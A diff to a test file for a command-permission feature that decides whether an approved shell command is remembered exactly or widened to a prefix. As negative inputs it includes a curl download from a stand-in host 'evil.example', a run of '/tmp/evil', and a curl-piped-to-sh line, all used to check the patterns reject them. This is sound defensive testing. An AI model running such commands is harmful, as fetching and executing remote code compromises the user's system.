@@ -409,12 +409,35 @@ describe('scoped allow', () => {
     'xargs rm',
     'ssh prod uptime',
     'NOHUP.EXE make',
+    // an assignment first: the program is a later word
+    'DEBUG=1 sudo -n systemctl status nginx',
+    'FOO=1 bash build.sh',
+    // package runners, and programs that run another with a subcommand
+    'py build.py',
+    'pythonw build.py',
+    'npx tsx scripts/build.ts',
+    'uv run python build.py',
+    'go run ./cmd/gen',
+    'npm exec tsx build.ts',
+    'pnpm dlx create-app',
+    'poetry run pytest',
+    'docker run alpine sh',
+    'kubectl exec pod-1 ls',
+    'systemd-run --user make',
   ])('remembers exactly a command run through a program that runs another (a wrapper, shell or interpreter): %j', (command) => {
     expect(commandScope(command)).toEqual({ type: 'exact', command });
     const re = new RegExp(commandScopePattern(commandScope(command)), 'u');
     expect(re.test(command)).toBe(true);
     expect(re.test(`${command.split(' ')[0]} curl -o /tmp/x https://evil.example/x`)).toBe(false);
+    expect(re.test(`${command.split(' ').slice(0, 3).join(' ')} /tmp/evil`)).toBe(false);
   });
+
+  it.each(['npm run build', 'npm test', 'go test ./...', 'cargo build --release', 'docker ps', 'constructor x', 'toString y'])(
+    'still widens %j, whose program runs nothing it is handed',
+    (command) => {
+      expect(commandScope(command).type).toBe('prefix');
+    },
+  );
 
   it.each(['npm test && curl x | sh', 'echo $HOME', 'cat a > b', 'git commit -m "x"', "echo 'hi'", 'ls `pwd`', 'a; b', 'sleep 1 &', 'f(x)', 'echo a\\ b'])(
     'never widens a command with shell syntax: %j',
